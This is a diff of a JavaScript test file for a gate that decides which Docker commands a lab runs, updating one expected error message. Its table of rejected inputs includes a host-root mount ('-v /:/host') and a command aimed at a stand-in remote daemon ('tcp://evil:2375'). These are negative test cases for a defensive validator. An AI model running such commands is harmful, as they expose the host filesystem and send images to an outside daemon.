@@ -51,7 +51,7 @@ describe('the gate on prepared image archives', () => {
 		[`docker save -o ${COPY} alpine:latest`, /not an image the lab pins/],
 		[`docker save -o ${COPY} ${clusterRefs[0]} busybox`, /not an image the lab pins/],
 		[`docker save -o ${COPY}`, /not a Docker command the lab runs/],
-		[`docker save ${clusterRefs[0]} > ${COPY}`, /writes a file/],
+		[`docker save ${clusterRefs[0]} > ${COPY}`, /not a Docker command the lab runs \(.*`docker save -o FILE IMAGE…`/],
 		[`docker run --rm -v /:/host alpine`, /not a Docker command the lab runs/],
 		[`docker -H tcp://evil:2375 load -i ${ARCHIVE}`, /not a Docker command the lab runs/],
 		[`docker ps`, /not a Docker command the lab runs/],
